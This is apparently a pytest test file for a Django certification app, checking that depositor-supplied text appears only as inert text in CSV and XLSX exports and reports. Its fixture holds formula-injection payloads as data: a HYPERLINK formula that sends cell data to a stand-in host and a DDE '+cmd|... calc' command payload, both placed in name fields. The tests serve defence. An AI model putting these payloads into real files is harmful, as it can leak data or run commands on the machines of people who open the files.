"""A delegated depositor cannot plant live formulas in the files its certifier opens: the
processing reports and the passage exports, CSV and XLSX (DESIGN §4.14)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from opencertif.deposits.models import Passage
from tests.deposits import builders as b
from tests.factories import page

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://exemple.test/vol?d="&A2,"Cliquez ici")'


def live(text: str) -> bool:
    """Would a spreadsheet run this text as a formula?"""
    return text.lstrip(" \n\u00a0")[:1] in TRIGGERS


@pytest.fixture
def hostile_deposit(deposit, demo):
    """The third party (DEMO0002, delegated by the university) deposits passages whose
    every free text is a formula; one holder exists, so one passage is accepted."""
    b.person(birth_name="Martin", first_name="Camille")
    passages = [
        b.passage(HYPERLINK, identity=b.holder(birth_name="+cmd|' /C calc'!A0")),
        b.passage("-1+1", identity=b.holder(first_name="@SUM(1+1)")),
        b.passage("@SUM(A1:A9)", identity=b.holder(birth_name="=Martin", year=1991)),
        b.passage("  =2+3", identity=b.holder(birth_name="\t=1+1")),
        b.passage("OK-1", identity=b.holder()),
    ]
    data = b.deposit_file(
        [],
        emitter="DEMO0002",
        certifications=[
            ("RNCP", "RNCP90001", passages),
            ("RNCP", "-2+3", [b.passage("=1+1", identity=b.holder())]),
        ],
    )
    done = deposit(data, organisation=demo["third_party"], name="=tiers.xml")
    assert done.state == "done", done.errors
    assert Passage.objects.filter(certifier__id_client="DEMO0001").count() == 6
    return done


@pytest.fixture
def certifier(client, demo):
    client.force_login(demo["university"].memberships.get().user)
    return client


def csv_cells(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def xlsx_cells(response):
    content = b"".join(response.streaming_content)
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def assert_no_live_csv_cell(rows):
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if live(cell)]
    # The formulas did reach the file, as text.
    assert "'" + HYPERLINK in cells and "'-1+1" in cells


def assert_no_live_xlsx_cell(cells):
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if live(text)]
    assert "'" + HYPERLINK in texts and "'-1+1" in texts


def test_the_certifiers_processing_reports_carry_no_live_formula(certifier, hostile_deposit):
    rows = csv_cells(certifier.get(f"/espace/depots/{hostile_deposit.pk}/accuse.csv"))
    assert_no_live_csv_cell(rows)
    assert "'+cmd|' /C calc'!A0 Camille" in [cell for row in rows for cell in row]
    cells = xlsx_cells(certifier.get(f"/espace/depots/{hostile_deposit.pk}/accuse.xlsx"))
    assert_no_live_xlsx_cell(cells)
    # The line numbers we write stay numbers.
    lines = [cell for cell in cells if cell.column == 6 and cell.row > 1]
    assert lines and all(cell.data_type == "n" and cell.value > 0 for cell in lines)


def test_the_certifiers_passage_exports_carry_no_live_formula(certifier, hostile_deposit):
    assert HYPERLINK in page(certifier.get("/espace/passages/"))  # shown as text on the page
    rows = csv_cells(certifier.get("/espace/passages/export.csv"))
    assert len(rows) == 7
    assert_no_live_csv_cell(rows)
    assert "'-2+3" in [cell for row in rows for cell in row]
    cells = xlsx_cells(certifier.get("/espace/passages/export.xlsx"))
    assert_no_live_xlsx_cell(cells)
    ok_row = next(cell.row for cell in cells if cell.value == "OK-1")
    by_column = {cell.column: cell for cell in cells if cell.row == ok_row}
    assert by_column[7].is_date  # début de validité
    assert by_column[12].data_type == "n" and by_column[12].value == hostile_deposit.pk
    assert by_column[13].is_date  # reçu le


def test_the_api_reports_carry_no_live_formula(client, demo, hostile_deposit):
    from opencertif.organisations.services import create_api_token

    manager = demo["university"].memberships.get().user
    _, secret = create_api_token(organisation=demo["university"], name="ERP", by=manager)
    auth = {"HTTP_AUTHORIZATION": f"Bearer {secret}"}
    response = client.get(f"/api/deposits/{hostile_deposit.pk}/report.csv", **auth)
    assert_no_live_csv_cell(csv_cells(response))
    response = client.get(f"/api/deposits/{hostile_deposit.pk}/report.xlsx", **auth)
    assert_no_live_xlsx_cell(xlsx_cells(response))
